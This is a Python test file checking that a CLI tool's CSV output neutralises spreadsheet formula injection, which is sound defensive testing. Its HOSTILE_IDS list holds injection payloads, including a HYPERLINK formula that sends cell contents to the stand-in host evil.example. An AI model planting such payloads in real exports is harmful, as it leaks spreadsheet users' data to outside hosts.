"""CSV the hub writes cannot run in a spreadsheet: `hub resolve --out` with
source ids as an attacker would choose them."""

from __future__ import annotations

import csv
import io

import orjson
from typer.testing import CliRunner

from hub.cli import cli
from hub.csv_out import read_cell, safe_cell

HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1+1)*cmd", "+1+cmd", "-2+3", "=1+1"]


def test_resolve_out_neutralises_formulas(tmp_path):
    source = tmp_path / "in.jsonl"
    source.write_text("\n".join(orjson.dumps({"source": "crm", "source_id": sid, "given_name": "Ann",
                                              "family_name": f"Lee{n}"}).decode()
                                for n, sid in enumerate(HOSTILE_IDS)) + "\n")
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(cli, ["resolve", str(source), "--out", str(out), "--no-estimate"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(out.read_text())))
    assert rows[0] == ["source", "source_id", "golden_id"] and len(rows) == 1 + len(HOSTILE_IDS)
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert sorted(read_cell(row[1]) for row in rows[1:]) == sorted(HOSTILE_IDS)


def test_safe_cell_leaves_ordinary_values_alone():
    assert safe_cell("C-1001") == "C-1001" and safe_cell(None) == "" and safe_cell(42) == "42"
    assert safe_cell("=A1") == "'=A1" and read_cell("'=A1") == "=A1"
    assert safe_cell("\t=A1") == "'\t=A1" and safe_cell("\r@A1") == "'\r@A1"
    assert read_cell("'quoted") == "'quoted"  # a quote before an ordinary character was the data's own
